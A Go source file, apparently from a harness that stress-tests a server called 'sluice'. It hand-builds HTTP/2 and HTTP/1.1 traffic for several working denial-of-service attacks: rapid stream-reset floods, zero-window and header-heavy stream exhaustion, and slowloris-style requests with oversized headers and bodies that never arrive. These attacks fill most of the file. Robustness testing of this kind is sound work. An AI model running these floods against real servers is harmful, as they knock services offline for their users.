package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"
)

// The frames of HTTP/2 that attackers send (RFC 9113, 6).
const (
	headersFrame  = 0x1
	resetFrame    = 0x3
	settingsFrame = 0x4

	endStream, endHeaders = 0x1, 0x4

	initialWindow = 0x4 // a setting

	streamsEach = 64 // that a connection may have
)

func appendFrame(to []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	to = binary.BigEndian.AppendUint32(to, uint32(len(payload))<<8|uint32(kind))
	to = binary.BigEndian.AppendUint32(append(to, flags), stream)
	return append(to, payload...)
}

// appendLiteral adds a header field that no table has (RFC 7541, 6.2.2).
func appendLiteral(to []byte, name, value string) []byte {
	to = append(append(to, 0, byte(len(name))), name...)
	return append(append(to, byte(len(value))), value...)
}

// streamsOn opens a connection that takes nothing of an answer, and as many streams on it as
// there may be: GET, https and the path, with further header fields.
func (t *target) streamsOn(i int, path string, flags byte, fields int) net.Conn {
	c, err := t.dial(i, "h2")
	if err != nil {
		return nil
	}
	block := appendLiteral(appendLiteral([]byte{0x82, 0x87}, ":path", path), ":authority", "sluice")
	for field := range fields {
		block = appendLiteral(block, fmt.Sprintf("a%d", field), "")
	}
	sent := []byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	sent = appendFrame(sent, settingsFrame, 0, 0, []byte{0, initialWindow, 0, 0, 0, 0})
	for stream := range uint32(streamsEach) {
		sent = appendFrame(sent, headersFrame, flags|endHeaders, 2*stream+1, block)
	}
	_, _ = c.Write(sent)
	go func() { _, _ = io.Copy(io.Discard, c) }() // frames, but no data: there is no window for them
	return c
}

// besetBy opens connections again and again, so many at a time, until ctx ends. A connection
// that the server closes is noticed and replaced.
func besetBy(ctx context.Context, d *damage, connections int, open func(i int) net.Conn) {
	const openers = 20
	const stay = 3 * time.Second
	var mu sync.Mutex
	left := connections
	together(openers, func(opener int) {
		for ctx.Err() == nil {
			var held []net.Conn
			for i := opener; i < connections && ctx.Err() == nil; i += openers {
				if c := open(i); c != nil {
					held = append(held, c)
				}
				mu.Lock()
				if left--; left == 0 {
					d.begin()
				}
				mu.Unlock()
			}
			sleep(ctx, stay)
			for _, c := range held {
				_ = c.Close()
			}
		}
	})
	d.begin()
}

// unreadStreams ask for what strangers may see, and have no window for it.
func unreadStreams(ctx context.Context, t *target, d *damage) {
	besetBy(ctx, d, 800, func(i int) net.Conn { return t.streamsOn(i, "/healthz", endStream, 0) })
}

// headerStreams have nearly as many header fields as they may, and a body that never comes.
func headerStreams(ctx context.Context, t *target, d *damage) {
	besetBy(ctx, d, 400, func(i int) net.Conn { return t.streamsOn(i, receivePath, 0, 90) })
}

// resetStreams are opened only to be reset.
func resetStreams(ctx context.Context, t *target, d *damage) {
	const connections, volley = 8, 1000
	d.begin()
	together(connections, func(i int) {
		for ctx.Err() == nil {
			c := t.streamsOn(i, "/healthz", endStream, 0)
			if c == nil {
				continue
			}
			block := appendLiteral(appendLiteral([]byte{0x82, 0x87}, ":path", "/healthz"), ":authority", "sluice")
			var err error
			for stream := uint32(2*streamsEach + 1); err == nil && ctx.Err() == nil; {
				var sent []byte
				for range volley {
					sent = appendFrame(sent, headersFrame, endStream|endHeaders, stream, block)
					sent = appendFrame(sent, resetFrame, 0, stream, []byte{0, 0, 0, 8})
					stream += 2
				}
				_ = c.SetWriteDeadline(time.Now().Add(time.Second))
				_, err = c.Write(sent)
			}
			_ = c.Close()
		}
	})
}

// manyFields are 31 KB of header fields without values, before a body that does not come.
func manyFields(ctx context.Context, t *target, d *damage) {
	t.withHeaders(ctx, d, emptyFields)
}

var emptyFields = strings.Repeat("a:\r\n", 31_000/4)

// manyFieldsAside are those at a listener beside the main one.
func manyFieldsAside(ctx context.Context, t *target, d *damage) {
	beside := &target{client: newClient("http://"+t.aside, 1)}
	beside.withHeaders(ctx, d, emptyFields)
}

// largeHeaders are few and long.
func largeHeaders(ctx context.Context, t *target, d *damage) {
	t.withHeaders(ctx, d, strings.Repeat("x-long: "+strings.Repeat("x", 3000)+"\r\n", 9))
}

func (t *target) withHeaders(ctx context.Context, d *damage, fields string) {
	var head bytes.Buffer
	fmt.Fprintf(&head, "POST %s HTTP/1.1\r\nHost: x\r\nContent-Length: 60000\r\n%s\r\nx", receivePath, fields)
	besetBy(ctx, d, 2000, func(i int) net.Conn {
		c, err := t.dial(i)
		if err != nil {
			return nil
		}
		_, _ = c.Write(head.Bytes())
		return c
	})
}
